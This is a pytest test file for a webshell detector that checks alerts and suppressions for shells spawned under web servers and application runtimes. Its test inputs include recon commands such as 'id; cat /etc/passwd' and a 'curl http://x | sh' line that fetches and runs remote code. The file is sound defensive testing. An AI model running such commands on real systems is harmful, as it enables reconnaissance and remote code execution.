"""webshell: shells and recon tools under web servers and application runtimes."""

from __future__ import annotations

import pytest
from detector_factories import alerts, execve, init, proc, run, sh_c

from vigil.detectors.webshell import WebshellDetector, WebshellParams
from vigil.priority import Priority


def nginx():
    master = proc("/usr/sbin/nginx", pid=100, parent=init())
    return proc("/usr/sbin/nginx", pid=101, uid=33, user="www-data", parent=master)


def node_app():
    return proc("/usr/bin/node", "/srv/app/server.js", pid=200, uid=1001, user="app",
                parent=init())


def npm_run(script: str):
    npm = proc("/usr/bin/node", "/usr/bin/npm", "run", "build", pid=300, uid=1000,
               user="alice", parent=init(), name="npm run build")
    return sh_c(script, parent=npm, pid=301)


@pytest.mark.parametrize("parent", [nginx, node_app])
def test_fp2_recon_shell_under_nginx_or_node_fires(parent) -> None:
    sh = sh_c("id; cat /etc/passwd", parent=parent(), pid=400)
    dets = run(WebshellDetector(), [execve(sh)])
    assert [d.rule_id for d in alerts(dets)] == ["webshell.recon"]
    d = dets[0]
    assert d.priority == Priority.CRITICAL and "T1505.003" in d.tags
    assert d.data["recon"] == ["id"] and d.entity.pid == 400


@pytest.mark.parametrize("script", ["react-scripts build", "vite build", "webpack --mode production",
                                    "tsc -p .", "jest --ci", "next build", "yarn install",
                                    "pnpm -r build", "npx prisma generate",
                                    "rimraf dist && tsc && vite build"])
def test_fp2_npm_scripts_under_node_are_suppressed(script: str) -> None:
    dets = run(WebshellDetector(), [execve(npm_run(script))])
    assert len(dets) == 1 and alerts(dets) == []
    assert dets[0].suppressed.layer == "static"
    assert dets[0].suppressed.entry.startswith("webshell.build_scripts=")


def test_build_script_mixed_with_recon_still_fires() -> None:
    dets = run(WebshellDetector(), [execve(npm_run("react-scripts build; curl http://x | sh"))])
    assert len(alerts(dets)) == 1


def test_build_tools_under_a_pure_web_server_are_not_excused() -> None:
    dets = run(WebshellDetector(), [execve(sh_c("npm install", parent=nginx(), pid=401))])
    assert len(alerts(dets)) == 1 and dets[0].rule_id == "webshell.shell"


def test_php_mail_is_suppressed() -> None:
    fpm = proc("/usr/sbin/php-fpm8.2", pid=500, uid=33, user="www-data", parent=init(),
               name="php-fpm8.2")
    dets = run(WebshellDetector(), [
        execve(sh_c("/usr/sbin/sendmail -t -i", parent=fpm, pid=501)),
        execve(sh_c("whoami", parent=fpm, pid=502))])
    assert [d.suppressed.entry if d.suppressed else "alert" for d in dets] == [
        "webshell.app_helpers=sendmail", "alert"]


def test_recon_tool_spawned_directly_and_descendants_folded() -> None:
    app = node_app()
    uname = proc("/usr/bin/uname", "-a", pid=600, uid=1001, parent=app)
    sh = sh_c("id", parent=app, pid=601)
    child = proc("/usr/bin/id", pid=602, uid=1001, parent=sh)
    git = proc("/usr/bin/git", "rev-parse", "HEAD", pid=603, uid=1001, parent=app)
    dets = run(WebshellDetector(), [execve(uname), execve(sh), execve(child), execve(git)])
    assert [d.entity.pid for d in alerts(dets)] == [600, 601]


def test_python_web_server_counts_but_plain_python_scripts_do_not() -> None:
    gunicorn = proc("/usr/bin/python3.11", "/usr/local/bin/gunicorn", "app:app", pid=700,
                    uid=1001, parent=init())
    script = proc("/usr/bin/python3.11", "/home/alice/tool.py", pid=710, uid=1000,
                  parent=init())
    dets = run(WebshellDetector(), [execve(sh_c("id", parent=gunicorn, pid=701)),
                                    execve(sh_c("id", parent=script, pid=711))])
    assert [d.entity.pid for d in dets] == [701]


def test_shell_under_process_running_as_web_user() -> None:
    cgi = proc("/usr/lib/cgi-bin/report", pid=800, uid=33, user="www-data", parent=init())
    dets = run(WebshellDetector(), [execve(sh_c("ls /", parent=cgi, pid=801))])
    assert len(alerts(dets)) == 1


def test_interactive_shell_and_params() -> None:
    params = WebshellParams.from_dict({"extra_web_servers": ["myhttpd"]})
    srv = proc("/opt/myhttpd/bin/myhttpd", pid=900, parent=init())
    bash = proc("/usr/bin/bash", "-i", pid=901, parent=srv)
    assert len(alerts(run(WebshellDetector(params), [execve(bash)]))) == 1
    assert run(WebshellDetector(), [execve(bash)]) == []


def test_jobs_and_admin_sessions_of_the_web_account_are_not_web_requests() -> None:
    """The www-data crontab (Laravel's scheduler) and `sudo -u www-data php artisan ...`."""
    cron = proc("/usr/sbin/cron", "-f", pid=1000, uid=33, user="www-data", parent=init())
    artisan = proc("/usr/bin/php8.2", "artisan", "migrate", pid=1001, uid=33,
                   user="www-data", parent=init())
    admin = proc("/usr/bin/bash", pid=1002, uid=33, user="www-data", parent=init())
    dets = run(WebshellDetector(), [
        execve(sh_c("cd /var/www && php artisan schedule:run", parent=cron, pid=1010)),
        execve(sh_c("npm run build", parent=artisan, pid=1011)),
        execve(proc("/usr/bin/ls", pid=1012, uid=33, parent=admin))])
    assert alerts(dets) == []
    assert [d.suppressed.entry for d in dets] == ["webshell.build_scripts=npm"]
    # the php CLI is an application runtime: recon under it still fires
    assert len(alerts(run(WebshellDetector(), [execve(sh_c("id", parent=artisan,
                                                                pid=1013))]))) == 1


def test_a_runtime_the_sensor_saw_listen_nowhere_is_not_a_web_server() -> None:
    from vigil.events.model import FdInfo, Listener

    stdio = [FdInfo(num=0, type="file"), FdInfo(num=1, type="pipe"), FdInfo(num=2, type="pipe")]
    # node running npm scripts: started under the sensor, no listening socket
    npm = proc("/usr/bin/node", "/usr/bin/npm", "test", pid=700, uid=1000, user="alice",
               parent=init(), name="node", stdio=stdio)
    assert run(WebshellDetector(), [execve(sh_c("id; cat /etc/passwd", parent=npm,
                                                 pid=701))]) == []
    # the same runtime serving on port 3000 (or started before the sensor) is judged as before
    serving = proc("/usr/bin/node", "/srv/app/server.js", pid=710, uid=1001, user="app",
                   parent=init(), name="node", stdio=stdio,
                   listening=[Listener(proto="tcp", ip="0.0.0.0", port=3000)])
    unknown = node_app()
    for parent, pid in ((serving, 711), (unknown, 712)):
        dets = run(WebshellDetector(), [execve(sh_c("id; cat /etc/passwd", parent=parent,
                                                     pid=pid))])
        assert alerts(dets) and dets[0].rule_id == "webshell.recon"
